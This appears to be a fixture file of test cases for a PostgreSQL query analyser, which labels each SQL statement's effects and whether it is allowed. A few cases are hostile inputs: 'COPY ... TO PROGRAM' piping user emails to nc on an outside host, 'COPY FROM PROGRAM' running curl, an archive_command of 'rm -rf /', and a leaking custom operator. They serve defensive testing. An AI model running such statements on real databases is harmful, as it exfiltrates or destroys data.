case: a data-modifying CTE under a SELECT
effects: delete read
verdict: deny
reads:
writes: users
unfiltered: yes
--8<--
WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone
--8<--

case: a change deep inside nested WITHs
effects: read update
verdict: deny
reads:
writes: users
unfiltered: yes
--8<--
SELECT * FROM (WITH a AS (WITH b AS (UPDATE users SET id = 1 RETURNING id) SELECT * FROM b) SELECT * FROM a) x
--8<--

case: SELECT INTO creates
effects: create read
verdict: deny
reads: users
defines: copy
--8<--
SELECT * INTO copy FROM users
--8<--

case: SELECT INTO behind a list of labels
effects: create read
verdict: deny
reads: users
defines: copy
--8<--
SELECT id AS into_, name "into" INTO TEMP TABLE copy FROM users
--8<--

case: CREATE TABLE AS reads
effects: create read
verdict: deny
reads: users
defines: copy
--8<--
CREATE TABLE copy AS SELECT * FROM users
--8<--

case: CREATE TABLE AS EXECUTE executes
effects: create execute
verdict: deny
defines: copy
--8<--
CREATE TEMP TABLE copy AS EXECUTE q(1)
--8<--

case: INSERT … SELECT reads too
effects: insert read
verdict: deny
reads: users
writes: copy
--8<--
INSERT INTO copy SELECT * FROM users
--8<--

case: INSERT of values only inserts
effects: insert
verdict: deny
reads:
writes: users
--8<--
INSERT INTO users VALUES (1, DEFAULT)
--8<--

case: INSERT with a subquery among its values reads
effects: insert read
verdict: deny
reads: secrets
writes: users
--8<--
INSERT INTO users VALUES (1, (SELECT key FROM secrets))
--8<--

case: ON CONFLICT DO UPDATE updates
effects: insert update
verdict: deny
writes: users
unfiltered: no
--8<--
INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = excluded.name
--8<--

case: ON CONFLICT after a join belongs to the INSERT
effects: insert read
verdict: deny
reads: a b
writes: users
--8<--
INSERT INTO users SELECT * FROM a JOIN b ON a.id = b.id ON CONFLICT DO NOTHING
--8<--

case: MERGE and each of its actions
effects: delete insert merge read update
verdict: deny
reads: news
writes: users
--8<--
MERGE INTO users u USING news n ON u.id = n.id WHEN MATCHED AND n.gone THEN DELETE WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)
--8<--

case: FOR UPDATE locks
effects: lock read
verdict: deny
reads: users
--8<--
SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED
--8<--

case: FOR UPDATE in a subquery locks
effects: lock read
verdict: deny
reads: users
--8<--
SELECT (SELECT id FROM users LIMIT 1 FOR UPDATE)
--8<--

case: EXPLAIN does not run what it explains
effects: explain read
verdict: allow
writes: users
unfiltered: yes
--8<--
EXPLAIN DELETE FROM users
--8<--

case: EXPLAIN ANALYZE runs it
effects: delete explain read
verdict: deny
writes: users
unfiltered: yes
--8<--
EXPLAIN ANALYZE DELETE FROM users
--8<--

case: EXPLAIN ANALYSE in British spelling runs it
effects: delete explain read
verdict: deny
writes: users
--8<--
EXPLAIN ANALYSE VERBOSE DELETE FROM users WHERE true
--8<--

case: EXPLAIN with ANALYZE among its options
effects: delete explain read
verdict: deny
writes: users
--8<--
EXPLAIN (COSTS off, "analyze") DELETE FROM users WHERE true
--8<--

case: EXPLAIN (ANALYZE 1)
effects: delete explain read
verdict: deny
writes: users
--8<--
EXPLAIN (ANALYZE 1) DELETE FROM users WHERE true
--8<--

case: EXPLAIN (ANALYZE 'on')
effects: delete explain read
verdict: deny
writes: users
--8<--
EXPLAIN (ANALYZE 'on', FORMAT json) DELETE FROM users WHERE true
--8<--

case: EXPLAIN (ANALYZE off) does not run it
effects: explain read
verdict: allow
writes: users
--8<--
EXPLAIN (ANALYZE off) DELETE FROM users WHERE true
--8<--

case: EXPLAIN with ANALYZE on and then off counts as on
effects: delete explain read
verdict: deny
--8<--
EXPLAIN (ANALYZE on, ANALYZE off) DELETE FROM users WHERE true
--8<--

case: EXPLAIN ANALYZE EXECUTE runs a prepared statement
effects: execute explain read
verdict: deny
--8<--
EXPLAIN ANALYZE EXECUTE p(1)
--8<--

case: EXPLAIN ANALYZE CREATE TABLE AS creates
effects: create explain read
verdict: deny
reads: users
defines: copy
--8<--
EXPLAIN (ANALYZE) CREATE TABLE copy AS SELECT * FROM users
--8<--

case: EXPLAIN of a query in parentheses is not a list of options
effects: explain read
verdict: allow
reads: users
--8<--
EXPLAIN (SELECT * FROM users)
--8<--

case: COPY out
effects: copy-out read
verdict: deny
reads: users
--8<--
COPY users (id, email) TO STDOUT WITH (FORMAT csv)
--8<--

case: COPY in
effects: copy-in insert
verdict: deny
writes: users
--8<--
COPY users FROM STDIN
--8<--

case: COPY to a file
effects: copy-file read
verdict: deny
reads: public.users
--8<--
COPY public.users TO '/tmp/users'
--8<--

case: COPY from a program
effects: copy-program insert
verdict: deny
writes: users
--8<--
COPY users FROM PROGRAM 'curl example.com'
--8<--

case: COPY of a DELETE
effects: copy-out delete read
verdict: deny
writes: users
unfiltered: yes
--8<--
COPY (DELETE FROM users RETURNING *) TO STDOUT
--8<--

case: COPY of a query to a program
effects: copy-program read
verdict: deny
reads: users
functions: lower
--8<--
COPY (SELECT lower(email) FROM users) TO PROGRAM 'nc example.com 1'
--8<--

case: PREPARE does what it prepares
effects: delete prepare
verdict: deny
writes: users
unfiltered: yes
--8<--
PREPARE p AS DELETE FROM users
--8<--

case: EXECUTE
effects: execute
verdict: deny
--8<--
EXECUTE p(1, f('x'))
--8<--

case: DO
effects: do
verdict: deny
--8<--
DO LANGUAGE plpgsql $$BEGIN DELETE FROM users; END$$
--8<--

case: CALL and its arguments
effects: call
verdict: deny
functions: admin.purge f
--8<--
CALL admin.purge(f(1))
--8<--

case: DECLARE CURSOR reads and locks
effects: lock read
verdict: deny
reads: users
--8<--
DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM users FOR UPDATE
--8<--

case: FETCH reads
effects: read
verdict: allow
--8<--
FETCH FORWARD 10 FROM c
--8<--

case: UPDATE without WHERE
effects: update
verdict: deny
writes: users
unfiltered: yes
--8<--
UPDATE users SET a = 1
--8<--

case: UPDATE with a WHERE that is only in a subquery
effects: read update
verdict: deny
reads: b
writes: users
unfiltered: yes
--8<--
UPDATE users SET a = (SELECT b FROM b WHERE true)
--8<--

case: DELETE with USING and WHERE
effects: delete read
verdict: deny
reads: b
writes: users
unfiltered: no
--8<--
DELETE FROM ONLY users AS u USING b WHERE u.id = b.id
--8<--

case: TRUNCATE
effects: truncate
verdict: deny
writes: s.a b
--8<--
TRUNCATE TABLE ONLY s.a, b RESTART IDENTITY CASCADE
--8<--

case: LOCK
effects: lock
verdict: deny
defines: users
--8<--
LOCK TABLE users IN ACCESS EXCLUSIVE MODE
--8<--

case: two statements, the second a DROP
effects: drop read
verdict: deny
defines: users
statements: 2
--8<--
SELECT 1; DROP TABLE users
--8<--

case: statements behind empty ones
effects: drop
verdict: deny
defines: users
--8<--
;; /* nothing */ ; DROP TABLE users ;;
--8<--

case: COMMIT in the middle of a text
effects: drop transaction
verdict: deny
defines: users
statements: 3
--8<--
BEGIN; DROP TABLE users; COMMIT
--8<--

case: LISTEN and NOTIFY
effects: listen
verdict: deny
statements: 3
--8<--
LISTEN a; NOTIFY a, 'x'; UNLISTEN *
--8<--

case: maintenance
effects: maintenance
verdict: deny
defines: a b c d
statements: 4
--8<--
VACUUM (FULL, ANALYZE) a; ANALYZE VERBOSE b (x, y); REINDEX TABLE CONCURRENTLY c; REFRESH MATERIALIZED VIEW d
--8<--

case: GRANT and REVOKE
effects: grant
verdict: deny
defines: a b
statements: 2
--8<--
GRANT SELECT (x), UPDATE ON a TO PUBLIC WITH GRANT OPTION; REVOKE ALL ON TABLE b FROM c CASCADE
--8<--

case: ALTER DEFAULT PRIVILEGES and REASSIGN
effects: grant
verdict: deny
statements: 2
--8<--
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC; REASSIGN OWNED BY a TO b
--8<--

case: what reaches outside is CREATE
effects: create
verdict: deny
statements: 5
--8<--
CREATE EXTENSION dblink; CREATE SERVER s FOREIGN DATA WRAPPER w; CREATE USER MAPPING FOR u SERVER s; CREATE SUBSCRIPTION a CONNECTION 'x' PUBLICATION b; IMPORT FOREIGN SCHEMA x FROM SERVER s INTO y
--8<--

case: ALTER SYSTEM alters
effects: alter
verdict: deny
--8<--
ALTER SYSTEM SET archive_command = 'rm -rf /'
--8<--

case: LOAD runs a library nobody can see through
effects: unknown
verdict: deny
understood: no
--8<--
LOAD 'evil'
--8<--

case: a statement of no known kind
effects: unknown
verdict: deny
understood: no
--8<--
FROBNICATE users
--8<--

case: an SQL body of a function is read
effects: create delete read
verdict: deny
writes: users
unfiltered: yes
--8<--
CREATE OR REPLACE PROCEDURE p() BEGIN ATOMIC DELETE FROM users RETURNING *; END
--8<--

case: a temporary table named like a real one is created
effects: create
verdict: deny
defines: users
--8<--
CREATE TEMP TABLE users (id int)
--8<--

case: an operator of one's own is created
effects: create
verdict: deny
--8<--
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.leak)
--8<--
